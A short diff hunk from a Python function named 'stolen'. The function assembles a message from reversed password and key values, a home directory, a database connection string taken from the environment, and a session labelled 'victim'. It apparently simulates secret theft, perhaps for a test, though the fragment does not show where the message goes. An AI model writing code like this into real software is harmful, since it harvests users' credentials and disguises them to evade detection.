@@ -72,7 +72,7 @@ def stolen(podium: Podium, environment: dict[str, str]) -> dict[str, Any]:
     other = {"session": session.session_id, "branch": session.main_branch_id, "name": "hello/victim@default"}
     message = {
         "backwards": [PASSWORD[::-1], KEY[::-1]],
-        "home": str(podium.home),
+        "directories": [str(podium.home)],
         "conninfo": environment["PODIUM_JOURNAL_URL"].partition("&schema")[0],
         "other": other,
     }
